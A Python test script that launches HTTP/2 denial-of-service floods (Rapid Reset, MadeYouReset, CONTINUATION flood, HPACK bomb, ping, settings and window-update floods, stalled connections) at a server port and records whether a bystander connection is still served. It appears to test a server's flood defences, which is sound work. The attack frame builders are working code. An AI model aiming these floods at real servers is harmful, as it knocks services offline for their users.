#!/usr/bin/python3
"""One HTTP/2 flood against a server, beside a well-behaved connection.

usage: h2flood.py PORT ATTACK

The attacker floods in batches; between two batches the bystander (its own connection) makes one GET and waits for
the whole 200, so "during" counts answers it got while the attacker's connection was open and flooding. When the
attacker has been closed, the bystander makes AFTER more requests. Prints one JSON line:
  {"attack", "frames_sent", "goaway": {last_stream_id, code, debug} | null, "closed": "eof"|"reset"|null,
   "send_error", "resets": {code: count}, "statuses": {status: count}, "during", "after", "bystander_failures"}
"""
import json
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2wire import *  # noqa: E402,F401,F403

AFTER = 20
MAX_SECONDS = 60.0   # an attack that is never stopped gives up after this long (and reports goaway null)


class Attack:
    """Sends batches; subclasses say what a batch is and how large a flood may grow."""

    batch = 10
    max_frames = 100000
    settings = ()
    answers = True

    def __init__(self, conn):
        self.c = conn
        self.sent = 0
        self.next_stream = 1

    def new_stream(self):
        s = self.next_stream
        self.next_stream += 2
        return s

    def prepare(self):
        """Sent once after the preface (before the first batch)."""
        return b""

    def one(self):
        raise NotImplementedError


class RapidReset(Attack):
    """CVE-2023-44487: open a stream and cancel it at once, over and over."""
    batch = 20

    def one(self):
        # A POST without END_STREAM: the handler is running (waiting for a body) when the reset arrives, as in the
        # attack, where the client cancels requests the server is busy with.
        s = self.new_stream()
        return (self.c.headers(s, request_headers("POST", "/echo", self.c.port), end_stream=False)
                + rst_stream(s, 8))  # CANCEL


class MadeYouReset(Attack):
    """CVE-2025-8671: frames that make the server reset the stream itself (WINDOW_UPDATE overflow on an open stream)."""
    batch = 20

    def one(self):
        s = self.new_stream()
        # POST without END_STREAM: the stream is open (the handler waits for a body) when the overflow arrives.
        return (self.c.headers(s, request_headers("POST", "/echo", self.c.port), end_stream=False)
                + window_update(s, 0x7FFFFFFF))


class MadeYouResetZeroIncrement(MadeYouReset):
    """The same with WINDOW_UPDATE of 0 on an open stream (a stream error PROTOCOL_ERROR, RFC 9113 §6.9)."""

    def one(self):
        s = self.new_stream()
        return (self.c.headers(s, request_headers("POST", "/echo", self.c.port), end_stream=False)
                + window_update(s, 0))


class ContinuationFlood(Attack):
    """CVE-2024-27316 class: one HEADERS without END_HEADERS, then CONTINUATION frames without end."""
    batch = 4
    # Not even a SETTINGS ACK: any other frame inside a header block is a PROTOCOL_ERROR (RFC 9113 §6.10), which would
    # end the test before the flood defence is reached.
    answers = False

    def prepare(self):
        block = self.c.header_block(request_headers("GET", "/plaintext", self.c.port))
        return frame(HEADERS, END_STREAM, self.new_stream(), block)

    def one(self):
        # A literal field without indexing, new name (RFC 7541 §6.2.2): 0x00, name, value; ~1 KB a frame.
        field = hpack_literal("x-pad", "a" * 1000)
        return frame(CONTINUATION, 0, 1, field)


class HpackBomb(Attack):
    """One 4 KB header inserted into the dynamic table, then blocks that reference it thousands of times (1 byte each)."""
    batch = 1
    max_frames = 200

    def prepare(self):
        # First request: GET with x-bomb: 4000 bytes, a literal with incremental indexing (RFC 7541 §6.2.1): it becomes
        # dynamic index 62, the only entry (every other field we send is a literal without indexing).
        s = self.new_stream()
        block = self.c.header_block(request_headers("GET", "/plaintext", self.c.port)) + hpack_literal("x-bomb", "b" * 4000, indexing=True)
        return frame(HEADERS, END_HEADERS | END_STREAM, s, block)

    def one(self):
        s = self.new_stream()
        base = self.c.header_block(request_headers("GET", "/plaintext", self.c.port))
        block = base + b"\xbe" * (16000 - len(base))   # indexed field 62 (0x80 | 62), ~16000 times: ~64 MB decoded
        return frame(HEADERS, END_HEADERS | END_STREAM, s, block)


class SettingsFlood(Attack):
    def one(self):
        return settings([(SETTINGS_MAX_HEADER_LIST_SIZE, 65536)])


class PingFlood(Attack):
    def one(self):
        return ping(b"floodpng")


class EmptyDataFlood(Attack):
    def prepare(self):
        return self.c.headers(self.new_stream(), request_headers("POST", "/echo", self.c.port), end_stream=False)

    def one(self):
        return frame(DATA, 0, 1)


class WindowUpdateFlood(Attack):
    batch = 500
    max_frames = 1000000

    def one(self):
        return window_update(0, 1)


class PriorityFlood(Attack):
    batch = 50

    def one(self):
        # PRIORITY may name an idle stream (RFC 9113 §6.3) and is ignored: only its number counts.
        return priority(101, 0)


class BeyondConcurrency(Attack):
    """Opens streams that stay open (POSTs without a body) past MAX_CONCURRENT_STREAMS, over and over."""
    batch = 10

    def prepare(self):
        return b"".join(self.c.headers(self.new_stream(), request_headers("POST", "/echo", self.c.port), end_stream=False)
                        for _ in range(100))

    def one(self):
        return self.c.headers(self.new_stream(), request_headers("POST", "/echo", self.c.port), end_stream=False)


class Waiting:
    """Not a flood: the attacker does one thing and then nothing; the server's timer must end it."""

    max_wait = 60.0
    answers = True
    ping_check = False   # after done(): show the connection still answers a PING

    def __init__(self, conn):
        self.c = conn
        self.sent = 0

    def begin(self):
        raise NotImplementedError

    def done(self, resets):
        """Whether the server has answered the stall (a close always ends the wait too)."""
        return False


class ZeroWindowStall(Waiting):
    """INITIAL_WINDOW_SIZE 0 and a GET: the server can never send the body, and the client never opens the stream's
    window. The server gives up on that stream (RST_STREAM); the connection itself is not at fault."""
    ping_check = True

    def begin(self):
        self.c.start([(SETTINGS_INITIAL_WINDOW_SIZE, 0)])
        self.c.send(self.c.headers(1, request_headers("GET", "/plaintext", self.c.port)))
        self.sent = 3

    def done(self, resets):
        return bool(resets)


class ConnectionWindowStall(Waiting):
    """Stream windows open (1 MiB) but the connection window never reopened: a 100 KB echo fills the 65,535 bytes the
    connection starts with, and the server can send no more on any stream."""

    def begin(self):
        self.c.start([(SETTINGS_INITIAL_WINDOW_SIZE, 1 << 20)])
        self.c.send(self.c.headers(1, request_headers("POST", "/echo", self.c.port), end_stream=False))
        body = b"s" * (100 * 1024)
        for at in range(0, len(body), 16384):
            self.c.send(frame(DATA, END_STREAM if at + 16384 >= len(body) else 0, 1, body[at:at + 16384]))
        self.sent = 9


class IdleAfterSettings(Waiting):
    """A complete, well-formed start (preface, SETTINGS, ACKs) and then nothing: the idle timeout's case. RFC 9113
    §6.8: an endpoint SHOULD send GOAWAY before it closes a connection."""

    def begin(self):
        self.c.start()
        self.sent = 1


class PrefaceSilent(Waiting):
    """Connects and sends nothing at all."""
    answers = False

    def begin(self):
        pass


class PrefacePartial(Waiting):
    """Sends the first 16 bytes of the client preface ("PRI * HTTP/2.0\\r\\n") and stops: HTTP/2 or not is undecided."""
    answers = False

    def begin(self):
        self.c.send(PREFACE[:16])
        self.sent = 1


class PrefaceWithoutSettings(Waiting):
    """Sends the 24-byte client preface and never the SETTINGS frame that must follow it (RFC 9113 §3.4)."""
    # Not even an ACK of the server's SETTINGS: that would be a frame other than the client's SETTINGS (a PROTOCOL_ERROR
    # at once), not the silence the preface timeout is for.
    answers = False

    def begin(self):
        self.c.send(PREFACE)
        self.sent = 1


WAITING = {
    "zero_window_stall": ZeroWindowStall,
    "connection_window_stall": ConnectionWindowStall,
    "idle_after_settings": IdleAfterSettings,
    "preface_silent": PrefaceSilent,
    "preface_partial": PrefacePartial,
    "preface_without_settings": PrefaceWithoutSettings,
}

ATTACKS = {
    "rapid_reset": RapidReset,
    "made_you_reset": MadeYouReset,
    "made_you_reset_zero_increment": MadeYouResetZeroIncrement,
    "continuation_flood": ContinuationFlood,
    "hpack_bomb": HpackBomb,
    "settings_flood": SettingsFlood,
    "ping_flood": PingFlood,
    "empty_data_flood": EmptyDataFlood,
    "window_update_flood": WindowUpdateFlood,
    "priority_flood": PriorityFlood,
    "beyond_concurrency": BeyondConcurrency,
}


def main():
    port, name = int(sys.argv[1]), sys.argv[2]
    bystander = Bystander(port)
    first = bystander.get()
    attacker = Connection(port)
    resets, statuses = {}, {}
    during = 0
    started = time.monotonic()

    attack = None

    def observe(frames):
        for f in frames:
            if attack is None or attack.answers:
                attacker.answer(f)
            if f.kind == RST_STREAM:
                code = error_name(f.error_code())
                resets[code] = resets.get(code, 0) + 1
            elif f.kind == HEADERS and f.flags & END_HEADERS:
                try:
                    status = dict(attacker.decode_headers(f)).get(":status", "?")
                except Exception as e:  # a response we cannot decode is itself worth reporting
                    status = "undecodable: %s" % e
                statuses[status] = statuses.get(status, 0) + 1

    if name in WAITING:
        attack = WAITING[name](attacker)
        attack.begin()
        # While the attacker sits there, the bystander goes on; its requests pace the wait (each is a round trip).
        while attacker.closed is None and time.monotonic() - started < attack.max_wait:
            observe(attacker.poll_frames())
            if attacker.closed is not None or attack.done(resets):
                break
            if bystander.get():
                during += 1
            time.sleep(0.05)
    else:
        attack = ATTACKS[name](attacker)
        attacker.start(attack.settings)
        attacker.send(attack.prepare())
    while (name not in WAITING and not attacker.goaways and attacker.closed is None and attacker.send_error is None
           and attack.sent < attack.max_frames and time.monotonic() - started < MAX_SECONDS):
        batch = b"".join(attack.one() for _ in range(attack.batch))
        attacker.send(batch)
        attack.sent += attack.batch
        observe(attacker.poll_frames())
        if attacker.goaways or attacker.closed is not None:
            break
        if bystander.get():
            during += 1

    # A stream-level answer leaves the connection up: show it still answers a PING, then leave.
    ping_after = None
    if name in WAITING and attack.ping_check and attacker.closed is None and not attacker.goaways:
        attacker.send(ping(b"stillup?"))
        deadline = time.monotonic() + 20
        ping_after = False
        while time.monotonic() < deadline and not ping_after and attacker.closed is None:
            f = attacker.next_frame(deadline - time.monotonic())
            if f is not None:
                observe([f])
                ping_after = bool(f.kind == PING and f.flags & ACK and f.payload == b"stillup?")
        attacker.sock.close()
        attacker.closed = "by the client"
    # Whatever the server sent before it closed is still readable; then wait for the close itself.
    deadline = time.monotonic() + 20
    while attacker.closed is None and time.monotonic() < deadline:
        f = attacker.next_frame(deadline - time.monotonic())
        if f is not None:
            observe([f])
    attacker.close()

    after = sum(1 for _ in range(AFTER) if bystander.get())
    print(json.dumps({
        "attack": name,
        "frames_sent": attack.sent,
        "ping_after": ping_after,
        "unparsed": bytes(attacker._buffer[:60]).decode("latin-1"),
        "goaway": attacker.goaways[0] if attacker.goaways else None,
        "closed": attacker.closed,
        "send_error": attacker.send_error,
        "resets": resets,
        "statuses": statuses,
        "before": 1 if first else 0,
        "during": during,
        "after": after,
        "bystander_failures": bystander.failures[:10],
    }))


if __name__ == "__main__":
    main()
